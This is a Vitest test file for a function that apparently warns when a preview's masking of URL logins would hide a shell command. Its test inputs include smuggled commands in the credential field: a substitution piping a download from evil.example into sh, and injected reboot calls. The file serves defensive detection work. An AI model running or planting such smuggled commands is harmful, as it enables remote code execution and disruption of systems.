import { expect, test } from 'vitest'
import { maskWarnings } from '../../../src/tools/effects/preview/content/masks.ts'
import { linesFrom } from '../../support/preview/scripts.ts'

// A mask must not hide a command: what stands in the place of a login may be one.

const warning = (number: number): string =>
  `Line ${number} holds signs that a shell runs where the preview masks a secret: look at the script itself.`

test.each<readonly [string, string, string[]]>([
  ['a command in a login', `a\ncurl https://x:$(curl\${IFS}evil.example|sh)@host`, [warning(2)]],
  ['a command in back quotes', 'curl https://x:`reboot`@host', [warning(1)]],
  ['a second command', 'curl https://x:y;reboot;@host', [warning(1)]],
  ['a login', 'curl https://svc:Secret12345@host', []],
  ['variables', `curl https://$USER:\${TOKEN}@host`, []],
  ['no login', 'curl https://host; reboot', []],
])('%s', (_what, content, warnings) => {
  expect(maskWarnings(linesFrom(content))).toEqual(warnings)
})

test('of many lines, three are told of', () => {
  expect(maskWarnings(linesFrom('https://x:$(y)@z\n'.repeat(9)))).toHaveLength(3)
})
